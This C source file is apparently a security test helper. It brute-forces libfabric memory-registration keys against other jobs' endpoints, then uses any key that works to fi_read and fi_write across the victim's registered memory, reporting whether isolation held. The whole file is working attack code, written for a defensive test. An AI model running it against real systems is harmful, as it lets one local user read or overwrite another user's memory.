/*
 * A blind attack on another job's registered memory, as any local user can
 * make it (tests/security/fabric_keys.sh runs it as a second user): open the
 * same libfabric provider, address each given endpoint (host:port, as read
 * from /proc/net/tcp) and, for every key in [0, --keys), probe with an
 * 8-byte fi_read at offset 0 from a fresh endpoint (tcp drops the
 * connection that carried a bad key); a key that answers is then used for
 * fi_read and fi_write (delivery complete) at every --step bytes of
 * [0, --span). Weft registers without FI_MR_VIRT_ADDR on tcp;ofi_rxm and
 * sockets, so these offsets are the victim's segment offsets.
 *
 * Prints what came back and exits 1 when any access completed without an
 * error (the fabric let an outsider in), 0 when every one failed and the
 * target refused some (so the attack reached it), 2 when the attack could
 * not be made or never reached the target.
 * Usage: fabric_attack [--keys N] [--span BYTES] [--step BYTES] HOST:PORT...
 * The provider is FI_PROVIDER (default "tcp;ofi_rxm").
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define IN_FLIGHT   16
#define WRITE_BYTES 64
#define DEADLINE_S  20 /* for the accesses with one key */
#define PROBE_S     2  /* for the answer to one probe */

struct attack {
    struct fid_fabric *fabric;
    struct fid_domain *domain;
    struct fid_av *av;
    struct fid_ep *ep;
    struct fid_cq *cq;
    struct fi_info *info;
    uint64_t keys, span, step;
    long posted, ok_read, ok_write, failed, refused, unanswered;
    char rbuf[IN_FLIGHT][8];
    char wbuf[WRITE_BYTES];
};

static void die(const char *call, int ret)
{
    fprintf(stderr, "fabric_attack: %s: %s\n", call, fi_strerror(-ret));
    exit(2);
}

static void open_fabric(struct attack *a)
{
    struct fi_info *h = fi_allocinfo();
    const char *prov = getenv("FI_PROVIDER");
    int ret;

    if (!h)
        die("fi_allocinfo", -FI_ENOMEM);
    h->caps = FI_RMA | FI_READ | FI_WRITE;
    h->ep_attr->type = FI_EP_RDM;
    h->addr_format = FI_SOCKADDR_IN; /* the targets are IPv4 */
    h->domain_attr->threading = FI_THREAD_DOMAIN;
    h->domain_attr->data_progress = FI_PROGRESS_MANUAL;
    h->domain_attr->av_type = FI_AV_TABLE;
    h->domain_attr->mr_mode =
        FI_MR_LOCAL | FI_MR_ALLOCATED | FI_MR_PROV_KEY | FI_MR_VIRT_ADDR;
    h->fabric_attr->prov_name = strdup(prov ? prov : "tcp;ofi_rxm");
    ret = fi_getinfo(FI_VERSION(1, 17), NULL, NULL, 0, h, &a->info);
    fi_freeinfo(h);
    if (ret)
        die("fi_getinfo", ret);
    if ((ret = fi_fabric(a->info->fabric_attr, &a->fabric, NULL)) ||
        (ret = fi_domain(a->fabric, a->info, &a->domain, NULL)))
        die("opening the domain", ret);
    memset(a->wbuf, 0xee, sizeof(a->wbuf));
}

/* A fresh endpoint (and so a fresh connection) addressing target. */
static fi_addr_t open_ep(struct attack *a, const struct sockaddr_in *target)
{
    struct fi_cq_attr cq_attr = {.format = FI_CQ_FORMAT_CONTEXT};
    struct fi_av_attr av_attr = {.type = FI_AV_TABLE};
    fi_addr_t peer;
    int ret;

    if ((ret = fi_av_open(a->domain, &av_attr, &a->av, NULL)) ||
        (ret = fi_cq_open(a->domain, &cq_attr, &a->cq, NULL)) ||
        (ret = fi_endpoint(a->domain, a->info, &a->ep, NULL)) ||
        (ret = fi_ep_bind(a->ep, &a->av->fid, 0)) ||
        (ret = fi_ep_bind(a->ep, &a->cq->fid, FI_TRANSMIT | FI_RECV)) ||
        (ret = fi_enable(a->ep)))
        die("opening the endpoint", ret);
    if (fi_av_insert(a->av, target, 1, &peer, 0, NULL) != 1)
        die("fi_av_insert", -FI_EINVAL);
    return peer;
}

static void close_ep(struct attack *a)
{
    fi_close(&a->ep->fid);
    fi_close(&a->cq->fid);
    fi_close(&a->av->fid);
}

/* Reads one completion, if any (this drives the provider's progress); a
 * context tells a read (non-NULL) from a write. */
static void poll_once(struct attack *a, long *in_flight)
{
    struct fi_cq_entry e;
    struct fi_cq_err_entry err;
    ssize_t n = fi_cq_read(a->cq, &e, 1);

    if (n == 1) {
        if (e.op_context)
            a->ok_read++;
        else
            a->ok_write++;
        (*in_flight)--;
    } else if (n == -FI_EAVAIL) {
        memset(&err, 0, sizeof(err));
        if (fi_cq_readerr(a->cq, &err, 0) == 1) {
            if (a->refused++ == 0)
                printf("fabric_attack: first refusal: %s\n",
                       fi_strerror(err.err));
            a->failed++;
            (*in_flight)--;
        }
    } else if (n != -FI_EAGAIN) {
        die("fi_cq_read", (int)n);
    }
}

/* Progresses until at most `left` operations are in flight or the deadline
 * passes. */
static void drain(struct attack *a, long *in_flight, long left, time_t end)
{
    while (*in_flight > left && time(NULL) < end)
        poll_once(a, in_flight);
}

/* Posts one access, progressing while the provider says "again". */
static void post(struct attack *a, fi_addr_t peer, int read, uint64_t off,
                 uint64_t key, long *in_flight, time_t end)
{
    struct fi_rma_iov riov = {off, read ? 8 : WRITE_BYTES, key};
    char *lbuf = read ? a->rbuf[a->posted % IN_FLIGHT] : a->wbuf;
    struct iovec iov = {lbuf, riov.len};
    struct fi_msg_rma msg = {.msg_iov = &iov,
                             .iov_count = 1,
                             .addr = peer,
                             .rma_iov = &riov,
                             .rma_iov_count = 1,
                             .context = read ? lbuf : NULL};
    ssize_t ret;

    do {
        ret = read ? fi_readmsg(a->ep, &msg, FI_COMPLETION)
                   : fi_writemsg(a->ep, &msg,
                                 FI_COMPLETION | FI_DELIVERY_COMPLETE);
        if (ret == -FI_EAGAIN)
            poll_once(a, in_flight);
    } while (ret == -FI_EAGAIN && time(NULL) < end);
    if (ret == 0) {
        a->posted++;
        (*in_flight)++;
    } else if (a->failed++ == 0) {
        printf("fabric_attack: first failed post: %s\n",
               fi_strerror((int)-ret));
    }
}

/* Whether key opens the target: an 8-byte read at offset 0 completes. */
static int probe(struct attack *a, fi_addr_t peer, uint64_t key)
{
    long in_flight = 0, ok = a->ok_read;

    post(a, peer, 1, 0, key, &in_flight, time(NULL) + PROBE_S);
    drain(a, &in_flight, 0, time(NULL) + PROBE_S);
    a->unanswered += in_flight;
    return a->ok_read > ok;
}

static void attack_one(struct attack *a, const char *target)
{
    struct sockaddr_in sin = {.sin_family = AF_INET};
    char host[64];
    unsigned port;

    if (sscanf(target, "%63[^:]:%u", host, &port) != 2 ||
        inet_pton(AF_INET, host, &sin.sin_addr) != 1) {
        fprintf(stderr, "fabric_attack: bad target %s\n", target);
        exit(2);
    }
    sin.sin_port = htons((uint16_t)port);
    for (uint64_t key = 0; key < a->keys; key++) {
        fi_addr_t peer = open_ep(a, &sin);
        long in_flight = 0;
        time_t end = time(NULL) + DEADLINE_S;

        if (probe(a, peer, key)) {
            printf("fabric_attack: %s: key %llu opens it\n", target,
                   (unsigned long long)key);
            for (uint64_t off = 0; off < a->span; off += a->step)
                for (int read = 1; read >= 0; read--) {
                    drain(a, &in_flight, IN_FLIGHT - 1, end);
                    post(a, peer, read, off, key, &in_flight, end);
                }
            drain(a, &in_flight, 0, end);
            a->unanswered += in_flight;
        }
        close_ep(a);
    }
}

int main(int argc, char **argv)
{
    struct attack a = {
        .keys = 8, .span = (uint64_t)16 << 20, .step = (uint64_t)1 << 20};
    int i = 1;

    for (; i + 1 < argc && strncmp(argv[i], "--", 2) == 0; i += 2) {
        uint64_t v = strtoull(argv[i + 1], NULL, 0);

        if (strcmp(argv[i], "--keys") == 0)
            a.keys = v;
        else if (strcmp(argv[i], "--span") == 0)
            a.span = v;
        else if (strcmp(argv[i], "--step") == 0)
            a.step = v ? v : 1;
        else
            break;
    }
    if (i >= argc) {
        fprintf(stderr, "usage: fabric_attack [--keys N] [--span B] "
                        "[--step B] HOST:PORT...\n");
        return 2;
    }
    open_fabric(&a);
    for (; i < argc; i++)
        attack_one(&a, argv[i]);
    printf("fabric_attack: %ld accesses: %ld reads and %ld writes completed, "
           "%ld failed (%ld refused by the target), %ld unanswered\n",
           a.posted, a.ok_read, a.ok_write, a.failed, a.refused, a.unanswered);
    if (a.ok_read || a.ok_write)
        return 1;
    /* Nothing came back from the target: the attack never reached it. */
    return a.refused ? 0 : 2;
}
